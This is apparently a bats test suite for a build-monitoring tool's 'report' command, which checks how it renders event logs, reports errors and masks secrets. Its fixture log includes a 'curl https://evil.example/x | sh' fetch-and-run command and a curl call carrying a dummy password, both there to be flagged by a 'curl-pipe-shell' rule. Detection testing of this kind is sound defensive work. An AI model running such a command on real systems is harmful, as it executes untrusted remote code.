#!/usr/bin/env bats
# `buildwarden report EVENTS.jsonl`: help, errors (status 64 for usage, 65
# for a bad log, one "buildwarden: " line naming FILE:LINE), and a saved log rendered to the
# text tree, Markdown and a JSON summary (checked with jq-free python3).
# Needs no root. Run: bats --tap tests/cli/report.bats

bats_require_minimum_version 1.5.0

BW=${BUILDWARDEN:-$BATS_TEST_DIRNAME/../../build/buildwarden}
T="timeout -k 5 30"

setup() {
	[ -x "$BW" ] || skip "buildwarden not built ($BW)"
	DIR=$(mktemp -d)
}

teardown() {
	rm -rf "$DIR"
}

show() {
	echo "status: $status"
	echo "stdout: $output"
	echo "stderr: ${stderr-}"
}

# $1: the status; $2: what the one "buildwarden: " line says.
expect_error() {
	if [ "$status" -ne "$1" ] || [ "${#stderr_lines[@]}" -ne 1 ] ||
		[[ "${stderr_lines[0]}" != "buildwarden: "* ]] ||
		[[ "${stderr_lines[0]}" != *"$2"* ]]; then
		echo "expected status $1 and one stderr line 'buildwarden: …$2…'"
		show
		return 1
	fi
}

# make -> sh -c "curl … | sh" -> curl, flagged and killed; a secret in argv.
write_log() {
	cat >"$DIR/events.jsonl" <<'LOG'
{"seq":1,"type":"exec","job_id":1,"pid":100,"tid":100,"start_ns":1000,"ppid":99,"parent_start_ns":1,"comm":"make","filename":"/usr/bin/make","exe":"/usr/bin/make","cwd":"/src","argc":2,"argv":["make","-j2"],"argv_truncated":false}
{"seq":2,"type":"fork","job_id":1,"pid":101,"tid":101,"start_ns":1010,"parent_pid":100,"parent_tid":100,"parent_start_ns":1000}
{"seq":3,"type":"exec","job_id":1,"pid":101,"tid":101,"start_ns":1010,"comm":"sh","filename":"/bin/sh","exe":"/usr/bin/dash","argc":3,"argv":["sh","-c","curl https://evil.example/x | sh"]}
{"seq":4,"type":"fork","job_id":1,"pid":102,"tid":102,"start_ns":1020,"parent_pid":101,"parent_tid":101,"parent_start_ns":1010}
{"seq":5,"type":"exec","job_id":1,"pid":102,"tid":102,"start_ns":1020,"comm":"curl","filename":"/usr/bin/curl","exe":"/usr/bin/curl","argc":3,"argv":["curl","--password","hunter2","https://evil.example/x"]}
{"seq":6,"type":"verdict","job_id":1,"rule":"curl-pipe-shell","severity":"high","mode":"enforce","rule_action":"kill-process","action":"kill-process","blocked":false,"kernel_missed":false,"pid":102,"start_ns":1020,"argv":["curl","--password","hunter2","https://evil.example/x"],"ancestry":[]}
{"seq":7,"type":"exit","job_id":1,"pid":102,"tid":102,"start_ns":1020,"exit_code":null,"signal":9,"core_dumped":false}
{"seq":8,"type":"exit","job_id":1,"pid":101,"tid":101,"start_ns":1010,"exit_code":137,"signal":null,"core_dumped":false}
{"seq":9,"type":"exit","job_id":1,"pid":100,"tid":100,"start_ns":1000,"exit_code":2,"signal":null,"core_dumped":false}
{"seq":10,"type":"summary","job_id":1,"command":["make","-j2"],"exit_status":2,"build_exit_code":2,"build_signal":null,"lost":0,"policy":"ci.yml","mode":"enforce","job_killed":false}
LOG
}

@test "report --help lists its options and exits 0" {
	run --separate-stderr $T "$BW" report --help
	[ "$status" -eq 0 ] || { show; false; }
	for opt in --markdown --append --json --no-tree --no-color --no-redact --help; do
		[[ "$output" == *"$opt"* ]] || { echo "help lacks $opt"; show; false; }
	done
	[[ "$output" == "Usage: buildwarden report"* ]]
}

@test "report without a log, or with two, is a usage error" {
	run --separate-stderr $T "$BW" report
	expect_error 64 "expected one event log"
	run --separate-stderr $T "$BW" report a.jsonl b.jsonl
	expect_error 64 "expected one event log"
	run --separate-stderr $T "$BW" report --bogus x.jsonl
	expect_error 64 "unknown option '--bogus'"
	run --separate-stderr $T "$BW" report x.jsonl --json
	expect_error 64 "needs a value"
}

@test "a missing log is status 65 naming the file" {
	run --separate-stderr $T "$BW" report "$DIR/nope.jsonl"
	expect_error 65 "$DIR/nope.jsonl: No such file or directory"
}

@test "a malformed line is status 65 with FILE:LINE" {
	write_log
	sed -i '4s/.*/{"seq":4,"type":"fork",/' "$DIR/events.jsonl"
	run --separate-stderr $T "$BW" report --markdown "$DIR/r.md" "$DIR/events.jsonl"
	expect_error 65 "$DIR/events.jsonl:4: malformed record: the record is cut short"
	[ ! -s "$DIR/r.md" ]
	printf 'garbage\n' >"$DIR/bad.jsonl"
	run --separate-stderr $T "$BW" report "$DIR/bad.jsonl"
	expect_error 65 "$DIR/bad.jsonl:1: malformed record: not valid JSON"
}

@test "a saved log renders the tree, Markdown and JSON, secrets masked" {
	write_log
	run --separate-stderr $T "$BW" report --markdown "$DIR/r.md" --json "$DIR/r.json" \
		"$DIR/events.jsonl"
	[ "$status" -eq 0 ] || { show; false; }
	[[ "$output" == *"100 make -j2  [exit 2]"* ]] || { show; false; }
	[[ "$output" == *"! 102 curl --password *** https://evil.example/x"*"<- rule 'curl-pipe-shell'"* ]] ||
		{ show; false; }
	[[ "$output" != *$'\e['* ]] || { echo "colour when stdout is not a terminal"; show; false; }
	[[ "$output$(cat "$DIR/r.md" "$DIR/r.json")" != *hunter2* ]] || { echo "secret leaked"; false; }

	run grep -c '^## buildwarden: `make -j2` — failed (exit 2)$' "$DIR/r.md"
	[ "$output" = 1 ] || { cat "$DIR/r.md"; false; }
	grep -q '^| `curl-pipe-shell` | high | kill-process | no | 102 | `curl --password \*\*\* https://evil.example/x` |$' "$DIR/r.md" ||
		{ cat "$DIR/r.md"; false; }
	grep -q '^```mermaid$' "$DIR/r.md"
	grep -q '^  n1 --> n2$' "$DIR/r.md"
	grep -q '^  class n2 flagged$' "$DIR/r.md"
	grep -q '^None recorded\.$' "$DIR/r.md"

	python3 - "$DIR/r.json" <<'PY'
import json, sys
j = json.load(open(sys.argv[1]))
assert j["status"] == "failed", j
assert j["exit_status"] == 2, j
assert j["counts"]["processes"] == 3 and j["counts"]["execs"] == 3, j
assert j["counts"]["verdicts"] == 1 and j["counts"]["killed"] == 1, j
assert j["lost"] == 0 and j["complete"] is True, j
assert j["rules"] == [{"rule": "curl-pipe-shell", "severity": "high",
                       "rule_action": "kill-process", "hits": 1, "blocked": 0,
                       "killed": 1}], j
assert j["verdicts"][0]["command"] == "curl --password *** https://evil.example/x", j
PY
}

@test "--append adds a second report; --no-tree prints nothing" {
	write_log
	echo "# earlier step" >"$DIR/summary.md"
	run --separate-stderr $T "$BW" report --no-tree --append --markdown "$DIR/summary.md" \
		"$DIR/events.jsonl"
	[ "$status" -eq 0 ] || { show; false; }
	[ -z "$output" ] || { show; false; }
	[ "$(head -n1 "$DIR/summary.md")" = "# earlier step" ]
	run grep -c '^## buildwarden: ' "$DIR/summary.md"
	[ "$output" = 1 ]
}

@test "--no-redact shows the secret; markdown and json can go to stdout" {
	write_log
	run --separate-stderr $T "$BW" report --no-redact --no-tree --json - "$DIR/events.jsonl"
	[ "$status" -eq 0 ] || { show; false; }
	[[ "$output" == *'"command":"curl --password hunter2 https://evil.example/x"'* ]] ||
		{ show; false; }
	run --separate-stderr $T "$BW" report --no-tree --markdown - "$DIR/events.jsonl"
	[[ "$output" == "## buildwarden: "* ]] || { show; false; }
}
